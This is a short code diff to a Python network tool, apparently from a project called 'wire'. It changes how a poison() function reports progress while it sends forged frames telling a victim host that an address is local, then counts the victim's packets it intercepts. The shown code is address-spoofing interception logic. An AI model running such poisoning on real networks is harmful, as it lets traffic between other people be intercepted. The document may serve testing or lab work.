@@ -31,7 +31,6 @@ from wire.metadata.header import METADATA_PORT
 from wire.metadata.setup import Setup
 from wire.metadata.vocabulary import Service
 
-BEFORE_TOLD = 20  # lies, more than a kernel overhears because it has asked a second ago
 FRAMES_A_SECOND = 500
 FIRST_PORT = 20_000
 TTL_S = 120  # that an announcement holds
@@ -65,7 +64,7 @@ def end(_number: int, _frame: FrameType | None) -> None:
 
 def poison(interface: str, victim: str, victim_mac: str, posed: str) -> int:
     """Tell a victim that an address is here, until SIGTERM; return how many packets came for it."""
-    channel, caught, told = opened(interface), 0, 0
+    channel, caught, told = opened(interface), 0, False
     mac = own_mac(channel)
     lie = bytes(
         Ether(src=mac, dst=victim_mac)
@@ -78,9 +77,9 @@ def poison(interface: str, victim: str, victim_mac: str, posed: str) -> int:
         while True:
             if time.monotonic() >= next_s:
                 channel.send(lie)
-                told, next_s = told + 1, next_s + LIE_PERIOD_S
-                if told == BEFORE_TOLD:
+                if not told:
                     print("told", flush=True)
+                told, next_s = True, next_s + LIE_PERIOD_S
             if select.select([channel], [], [], max(0.0, next_s - time.monotonic()))[0]:
                 caught += _is_of(channel.recv(65_536), mac, wanted)
     except Ended:
